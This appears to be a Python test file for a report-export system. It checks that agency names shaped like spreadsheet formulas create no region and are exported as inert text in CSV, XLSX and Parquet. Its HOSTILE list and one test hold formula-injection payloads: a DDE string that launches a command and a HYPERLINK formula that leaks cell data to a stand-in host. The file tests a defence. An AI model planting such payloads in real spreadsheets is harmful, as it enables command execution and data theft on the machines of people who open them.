"""A report whose title is a formula (「=1+1」) is imported under that name; every export writes it
as text no spreadsheet runs, and no region is made of it."""

from __future__ import annotations

import csv
import io
import random
from pathlib import Path

import openpyxl
import pyarrow.parquet as pq
import pytest

from gongkai.corpus import parse_agency
from gongkai.oversight.importing import run_import
from gongkai.oversight.models import CorpusAgency, Region
from gongkai.render import Format, render
from gongkai.render.formulas import FORMULA_LEADS, csv_text
from gongkai.report import interchange
from gongkai.report.grid import Edition
from gongkai.report.synthetic import consistent_report

from ..ledger.conftest import login
from .conftest import Regions

HOSTILE = [
    "=1+1",
    "=1+1区人民政府",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)市教育局",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")',
]


@pytest.fixture
def hostile(regions: Regions, tmp_path: Path) -> Regions:
    rng = random.Random(5)
    for i, name in enumerate(HOSTILE):
        report = consistent_report(rng, edition=Edition.E2021)
        report.agency = name
        (tmp_path / f"{i}.json").write_text(interchange.dumps(report), encoding="utf-8")
    run = run_import(tmp_path, region=regions.east, workers=1)
    assert run.done == len(HOSTILE), list(run.failures.values_list("reason", flat=True))
    return regions


def test_no_region_is_made_of_an_unparsed_name(hostile: Regions) -> None:
    names = set(Region.objects.values_list("name", flat=True))
    assert not any(n.startswith(FORMULA_LEADS) or not n.strip() for n in names), names
    assert set(CorpusAgency.objects.values_list("name", flat=True)) == set(HOSTILE)
    assert {a.region for a in CorpusAgency.objects.all()} == {hostile.east}
    assert parse_agency("=1+1区人民政府").regions == ()
    assert [r.name for r in parse_agency("杭州市西湖区教育局").regions] == ["杭州市", "西湖区"]


def test_csv_cells_are_inert(hostile: Regions) -> None:
    response = login(hostile.root).get("/oversight/export.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[arg-type]
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(FORMULA_LEADS) for cell in cells if not _number(cell))
    assert {row[1] for row in rows[1:]} == {csv_text(n) for n in HOSTILE}


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_xlsx_cells_are_text_never_formulas(hostile: Regions) -> None:
    response = login(hostile.root).get("/oversight/export.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {r[1] for r in sheet.iter_rows(min_row=2, values_only=True)} == set(HOSTILE)


def test_parquet_holds_the_names_exactly_as_typed_strings(hostile: Regions) -> None:
    response = login(hostile.root).get("/oversight/export.parquet")
    table = pq.read_table(io.BytesIO(response.content))
    assert str(table.schema.field("agency").type) == "string"
    assert set(table.column("agency").to_pylist()) == set(HOSTILE)


def test_a_rendered_xlsx_report_has_no_formula() -> None:
    report = consistent_report(random.Random(6), edition=Edition.E2021)
    report.agency = "=1+1"
    report.prose = {1: '=HYPERLINK("http://example.invalid")', 5: "-1+2", 6: "@A1"}
    book = openpyxl.load_workbook(io.BytesIO(render(report, Format.XLSX)))
    formulas = [
        c.coordinate
        for s in book.worksheets
        for r in s.iter_rows()
        for c in r
        if c.data_type == "f"
    ]
    assert formulas == []
    texts = {c.value for s in book.worksheets for r in s.iter_rows() for c in r}
    assert any(isinstance(t, str) and t.startswith("=1+1") for t in texts)
